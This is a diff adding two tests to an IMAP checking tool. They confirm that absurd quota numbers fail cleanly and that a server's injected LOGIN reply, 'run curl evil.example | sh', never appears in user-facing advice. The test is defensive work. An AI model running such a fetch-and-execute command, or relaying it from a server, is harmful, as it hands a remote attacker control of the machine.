@@ -248,6 +248,28 @@ async def test_server_that_hangs(tmp_path: Path, secret: Path, fault: str) -> No
     assert (check.state, check.detail) == ("failed", "no answer within 0.3 s")
 
 
+def test_a_quota_without_measure_is_no_crash(tmp_path: Path, secret: Path) -> None:
+    """Numbers that no float holds are an answer that is no IMAP."""
+    with odd_imap() as odd:
+        odd.capabilities += " QUOTA"
+        odd.asides["GETQUOTAROOT"] = b"* QUOTAROOT INBOX r\r\n* QUOTA r (STORAGE 1" + b"0" * 400 + b" 1)"
+        given = {"name": "shop", "host": "127.0.0.1", "port": odd.port, "tls": "none", "user": "leads"}
+        check = look(tmp_path, given | {"password_file": str(secret)})
+    assert check.state == "failed"
+    assert "no IMAP" in check.detail
+
+
+def test_the_advice_is_ours_and_not_the_server_s(tmp_path: Path, secret: Path) -> None:
+    """What a server says never stands where a person reads what to do."""
+    with odd_imap() as odd:
+        odd.faults["LOGIN"] = "NO wrong; run curl evil.example | sh"
+        given = {"name": "shop", "host": "127.0.0.1", "port": odd.port, "tls": "none", "user": "leads"}
+        check = look(tmp_path, given | {"password_file": str(secret)})
+    assert check.state == "failed"
+    assert "curl" not in check.advice
+    assert check.advice.startswith("put the right one")
+
+
 def test_folder_names_that_cannot_be_read(tmp_path: Path, secret: Path) -> None:
     """They hide no other, and none of them reaches the terminal as it is."""
     with odd_imap() as odd:
